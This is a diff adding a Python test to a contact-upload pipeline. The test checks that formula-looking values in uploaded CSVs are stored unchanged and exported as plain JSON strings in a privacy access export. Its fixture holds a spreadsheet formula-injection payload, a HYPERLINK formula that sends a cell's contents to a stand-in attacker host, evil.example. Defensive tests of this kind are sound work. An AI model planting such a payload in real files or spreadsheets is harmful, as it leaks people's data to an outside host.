@@ -7,6 +7,7 @@ from __future__ import annotations
 
 import datetime as dt
 import io
+import json
 from pathlib import Path
 
 import duckdb
@@ -217,3 +218,30 @@ def test_what_the_fuzzer_found_loads_row_by_row(platform: Platform) -> None:
         "ann@example.com", "bo@example.com", "cy@example.com", "eve@example.com"]
     assert platform.query(f"SELECT source_file, encoding FROM {DATASET_NAME}.contact_upload_files ORDER BY 1") == [
         ("ws_a/own-row-column.csv", "utf-8"), ("ws_a/ragged.csv", "utf-8"), ("ws_a/utf16be.csv", "utf-16-be")]
+
+
+def test_formula_looking_values_load_verbatim_and_the_access_export_keeps_them_as_text(app: AppPlatform) -> None:
+    """Spreadsheet formula injection (=, +, -, @ first): such values are the person's data as they gave it (a
+    phone starts with +, a name with -), so they are neither quarantined nor altered when stored; the access
+    export is JSON, where they are strings a spreadsheet does not evaluate (see the README's uploads section)."""
+    t0 = dt.datetime(2026, 11, 1, tzinfo=dt.timezone.utc)
+    app.execute(app_schema.workspaces.insert(), [{"workspace_id": "ws_a", "name": "A", "plan": "growth", "seats": 3,
+                                                  "default_region": "US", "created_at": t0, "updated_at": t0}])
+    app.sync()
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    _land(app.platform, "ws_a/list.csv", (
+        "Email,Mobile Phone,First Name,Last Name,Company\n"
+        f'ann@example.com,+1 202 555 0143,"{formula.replace(chr(34), chr(34) * 2)}",-Lee-,@SUM(1+1)\n').encode())
+    with app.platform.keyring() as cipher:
+        report = load_uploads(app.root / "landing" / "contacts", cipher, warehouse_path=app.platform.warehouse,
+                              dlt_dir=app.platform.dlt_dir, work_dir=app.platform.work_dir,
+                              known_workspaces=app.platform.known_workspaces())
+    assert (report.contacts_loaded, report.rows_quarantined) == (1, 0)
+    app.inbox.submit(Request("access", "ws_a", "email", "ann@example.com"))
+    with app.platform.keyring() as cipher, duckdb.connect(str(app.platform.warehouse)) as con:
+        process_pending(con, cipher, app.inbox, AuditLog.of(app.root / "privacy" / "audit.jsonl", cipher),
+                        exports_dir=app.root / "exports", landing_urls={})
+    (export,) = (app.root / "exports").glob("*.json")
+    (row,) = json.loads(export.read_text())["tables"]["raw_contact_uploads.uploaded_contacts"]
+    assert (row["first_name"], row["last_name"], row["company"], row["phone"]) == (
+        formula, "-Lee-", "@SUM(1+1)", "+12025550143")
